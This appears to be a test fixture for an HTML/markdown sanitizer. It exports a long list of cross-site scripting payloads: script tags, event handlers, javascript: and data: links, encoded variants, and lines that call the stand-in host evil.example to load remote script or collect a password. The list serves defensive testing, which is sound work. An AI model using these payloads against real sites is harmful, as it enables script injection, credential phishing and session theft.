/** Texts that try to get script, style or somebody else's page into ours. Each line is one attempt. */
const LINES = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" alt="x">
<img/src/onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<video><source onerror="alert(1)"></video>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<form action="javascript:alert(1)"><button>x</button></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<isindex type=image src=1 onerror=alert(1)>
<base href="javascript:/">
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<style>body{background:url(javascript:alert(1))}</style>
<div style="background-image:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<p onclick=alert(1)>x</p>
<a onmouseover="alert(1)">x</a>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<table background="javascript:alert(1)"><td>x</td></table>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><img src="</xmp><img src=x onerror=alert(1)>">
<plaintext><script>alert(1)</script>
<title><img src="</title><img src=x onerror=alert(1)>">
<textarea></textarea><script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<custom-element onclick=alert(1)>x</custom-element>
<a href=https://evil.example id=content class=button style=position:fixed>x</a>
</p></div></main><script>alert(1)</script>
</div><form action=https://evil.example><input name=password>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1))
[x](&#106;avascript:alert(1))
[x](java&#10;script:alert(1))
[x](java&NewLine;script&colon;alert(1))
[x](java&Tab;script:alert(1))
[x]( javascript:alert(1))
[x](<javascript:alert(1)>)
[x](<java script:alert(1)>)
[x](\javascript:alert(1))
[x](%6A%61%76%61%73%63%72%69%70%74:alert(1))
[x](javascript://evil.example/%0Aalert(1))
[x](vbscript:msgbox(1))
[x](VBScript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zy8+)
[x](data:image/png;base64,iVBORw0KGgo=)
[x](file:///etc/passwd)
[x](ftp://evil.example)
[x](//evil.example)
[x](\\evil.example)
[x](/\evil.example)
[x](feed:javascript:alert(1))
[x](view-source:javascript:alert(1))
[x](blob:https://evil.example/x)
[x](intent://scan/#Intent;scheme=zxing;end)
[x](https:javascript:alert(1))
[x](https://evil.example "onmouseover=alert(1)")
[x](https://evil.example '"onmouseover="alert(1)')
[x](https://evil.example/"onmouseover="alert(1))
[x](<https://evil.example/" onmouseover="alert(1)>)
[x](https://evil.example/'onmouseover='alert(1))
["onmouseover="alert(1)](https://evil.example)
[<img src=x onerror=alert(1)>](https://evil.example)
[![x](javascript:alert(1))](https://evil.example)
[x][1] [1]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.example/track.gif)
![x" onerror="alert(1)](https://evil.example/x.png)
![<script>alert(1)</script>](x)
![x](data:image/svg+xml,<svg onload=alert(1)>)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<vbscript:x>
<https://evil.example/"onmouseover="alert(1)>
<mailto:x@evil.example?body="onmouseover="alert(1)>
https://evil.example/<script>alert(1)</script>
**<script>alert(1)</script>**
# <img src=x onerror=alert(1)>
> <iframe src=https://evil.example>
* <svg/onload=alert(1)>
\<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
<scr&#105;pt>alert(1)</script>
|<script>|alert(1)|
<a
~~<a href=javascript:alert(1)>x</a>~~
`.trim()

export const HOSTILE: readonly string[] = [
  ...LINES.split('\n'),
  '[x]: javascript:alert(1)\n\n[x]',
  '[x][y]\n\n[y]: <javascript:alert(1)> "t"',
  '```<script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '``` "onmouseover="alert(1)\nx\n```',
  '~~~js" onload="alert(1)\nx\n~~~',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '<div>\n\n<script>alert(1)</script>\n\n</div>',
  'x\u2028<script>alert(1)</script>',
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '[x](java\u0000script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript\u200b:alert(1))',
  '\ufeff<script>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  `${'['.repeat(2000)}x${'](javascript:alert(1))'.repeat(200)}`,
  `${'> '.repeat(500)}<script>alert(1)</script>`,
  `${'*'.repeat(3000)}x`,
]
